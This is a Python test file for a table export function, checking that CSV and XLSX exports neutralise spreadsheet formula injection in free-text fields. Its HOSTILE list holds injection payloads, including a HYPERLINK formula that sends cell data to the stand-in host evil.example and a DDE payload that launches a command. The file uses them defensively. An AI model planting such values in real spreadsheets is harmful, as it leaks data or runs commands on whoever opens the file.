"""api/console/export.py: exported cells are data, never formulas a spreadsheet would run."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from api.console.export import export_table

# What an exchange platform may report as an accessor id or a purpose (free text).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
ROW = [4556, "2026-12-01 10:00:00", *HOSTILE, "平常文本", -7, 1.5, None]
HEADER = [f"c{i}" for i in range(len(ROW))]


def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote() -> None:
    reply = export_table("csv", "审计轨迹", HEADER, [ROW])
    rows = list(csv.reader(io.StringIO(reply.body.decode("utf-8-sig"))))
    assert rows[0] == HEADER
    expected = ["4556", "2026-12-01 10:00:00", *("'" + h for h in HOSTILE), "平常文本", "-7", "1.5"]
    assert rows[1] == [*expected, ""]


def test_xlsx_cells_are_strings_never_formulas() -> None:
    reply = export_table("xlsx", "审计轨迹", HEADER, [ROW])
    sheet = load_workbook(io.BytesIO(reply.body)).active
    assert sheet is not None
    cells = next(iter(sheet.iter_rows(min_row=2, max_row=2)))
    assert [c.data_type for c in cells if isinstance(c.value, str)] == ["s"] * 8
    # XML reads a carriage return back as a line feed: the text is otherwise as written.
    assert [c.value for c in cells] == [
        v.replace("\r", "\n") if isinstance(v, str) else v for v in ROW
    ]
